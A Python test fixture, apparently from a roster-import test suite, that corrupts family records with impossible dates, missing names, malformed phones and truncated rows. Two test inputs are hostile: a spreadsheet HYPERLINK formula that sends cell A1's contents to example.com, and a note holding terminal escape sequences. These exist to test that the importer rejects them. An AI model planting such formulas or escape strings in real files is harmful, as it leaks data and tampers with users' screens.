"""What happens to cells on their way to the desk; each damage with its label and its truth."""

from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Any

from tests.rosters.layout import Layout


@dataclass
class Damage:
    """One damaged cell: which record of the family, what the truth then is."""

    kind: str
    field: str
    required: bool
    row: int
    """Which of the family's rows, from 0."""


Truth = dict[str, Any]


@dataclass
class Victim:
    """A family's rows before the damage, and what is true of them."""

    rng: Random
    layout: Layout
    rows: list[dict[str, str]]
    truth: Truth


Spoil = Callable[[Victim], list[Damage]]


def _child(it: Victim) -> tuple[int, str, Truth]:
    """Choose a child: the row it stands in, its column prefix, its truth."""
    at = it.rng.randrange(len(it.truth["children"]))
    row, prefix = (at, "c1") if it.layout.per_child else (0, f"c{at + 1}")
    return row, prefix, it.truth["children"][at]


def _birthday(kind: str, ways: list[str]) -> Spoil:
    def spoil(it: Victim) -> list[Damage]:
        row, prefix, child = _child(it)
        it.rows[row][f"{prefix}_birth"] = it.rng.choice(ways)
        child["birthday"] = None
        return [Damage(kind, "birthday", True, row)]

    return spoil


def _missing(kind: str, part: str) -> Spoil:
    def spoil(it: Victim) -> list[Damage]:
        row, prefix, child = _child(it)
        it.rows[row][f"{prefix}_{part}"] = ""
        child[part] = None
        return [Damage(kind, part, True, row)]

    return spoil


def _formula_name(it: Victim) -> list[Damage]:
    key = "g_surname" if it.layout.split else "g_name"
    name = it.rows[0][key]
    for row in it.rows:
        row[key] = f'=HYPERLINK("http://example.com/?x="&A1,"{name}")'
        if it.layout.split:
            row["g_given"] = ""
    it.truth["guardian"]["name"] = None
    return [Damage("formula_name", "name", True, at) for at in range(len(it.rows))]


def _note(kind: str, text: str, truly: str | None, *, required: bool) -> Spoil:
    def spoil(it: Victim) -> list[Damage]:
        for row in it.rows:
            row["allergy"] = text
        it.truth["allergy"] = truly
        return [Damage(kind, "notes", required, at) for at in range(len(it.rows))]

    return spoil


def _contact(kind: str, key: str, ways: list[str]) -> Spoil:
    def spoil(it: Victim) -> list[Damage]:
        way = it.rng.choice(ways)
        for row in it.rows:
            row[key] = way
        holder = it.truth["guardian"] if key == "phone" else it.truth
        holder[key] = None
        return [Damage(kind, key, True, at) for at in range(len(it.rows))]

    return spoil


def _broken_row(it: Victim) -> list[Damage]:
    """Cut a row short: what stood behind the cut is not in the file."""
    cuts = it.layout.safe_cuts()
    if len(it.rows) != 1 or not cuts:
        return []
    gone = it.layout.keys[it.rng.choice(cuts) :]
    for key in gone:
        del it.rows[0][key]
    it.truth["children"] = [
        child for n, child in enumerate(it.truth["children"], 1) if f"c{n}_name" not in gone
    ]
    for key in gone:
        if key in {"phone", "relation"}:
            it.truth["guardian"][key] = None
        elif key in it.truth:
            it.truth[key] = None
    if "address" in gone:
        it.truth["where"] = None
    return [Damage("broken_row", "row", True, 0)]


def _nameless(it: Victim) -> list[Damage]:
    for row in it.rows:
        for key in row:
            if key[0] in "gc" and ("name" in key or "kana" in key or "given" in key):
                row[key] = ""
    it.truth["nameless"] = True
    return [Damage("nameless", "name", True, at) for at in range(len(it.rows))]


DAMAGES: dict[str, Spoil] = {
    "feb30": _birthday("feb30", ["2021/2/30", "2024/4/31", "令和5年13月1日"]),
    "future": _birthday("future", ["2031/5/3", "令和20年1月1日"]),
    "heisei33": _birthday("heisei33", ["平成33年4月5日", "H33.4.5"]),
    "name_missing": _missing("name_missing", "name"),
    "kana_missing": _missing("kana_missing", "kana"),
    "formula_name": _formula_name,
    "formula_note": _note(
        "formula_note", '=HYPERLINK("http://example.com/","なし")', None, required=False
    ),
    "control_note": _note("control_note", "卵\x1b]0;受付\x07\x1b[2J\x08\x00", "卵", required=False),
    "huge_cell": _note("huge_cell", "卵と乳と小麦は控えています。" * 400, None, required=True),
    "broken_row": _broken_row,
    "broken_phone": _contact(
        "broken_phone", "phone", ["090-1234", "０９０－１２３４－", "080-12X4-5678", "9012"]
    ),
    "impossible_postal": _contact(
        "impossible_postal", "postal", ["336-09", "〒999-999", "33609671", "美園"]
    ),
    "nameless": _nameless,
}
TEXT_ONLY = {"broken_row"}
"""What cannot happen in a workbook, whose rows have no ends."""
